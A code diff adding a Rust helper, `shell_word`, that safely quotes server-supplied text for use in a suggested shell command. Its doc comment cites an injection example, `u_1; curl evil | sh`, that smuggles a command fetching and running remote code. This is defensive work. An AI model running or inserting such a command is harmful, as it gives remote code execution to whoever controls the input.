@@ -115,6 +115,17 @@ pub(crate) fn to_stderr(line: &str) {
     let _ = writeln!(std::io::stderr().lock(), "{line}");
 }
 
+/// `text`, chosen by the server, as one word a POSIX shell reads back unchanged: bare when it
+/// holds only characters no shell acts on, else in single quotes. Pasted bare into a
+/// suggested command, an id such as `u_1; curl evil | sh` would run what the server chose.
+pub(crate) fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
 #[cfg(test)]
 #[path = "paint_tests.rs"]
 mod tests;
